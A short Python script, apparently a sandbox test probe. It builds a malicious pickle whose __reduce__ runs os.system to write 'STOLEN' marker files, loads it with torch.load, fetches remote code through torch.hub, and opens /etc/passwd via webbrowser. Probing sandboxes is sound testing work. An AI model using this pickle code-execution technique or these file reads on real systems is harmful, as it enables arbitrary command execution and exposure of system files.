# tries: torch.hub, torch.load of a pickle that runs a command, webbrowser
# earns: all
import io, pickle, os
class P:
    def __reduce__(self): return (os.system, ("echo STOLEN > /tmp/lm39-attack; touch /dev/shm/lm39-attack-x",))
f = io.BytesIO(); torch.save(P(), f); f.seek(0)
for job in (lambda: torch.load(f, weights_only=False), lambda: torch.hub.load("pytorch/vision", "resnet18"), lambda: __import__("webbrowser").open("file:///etc/passwd")):
    try: print(job())
    except BaseException as e: print(type(e).__name__)
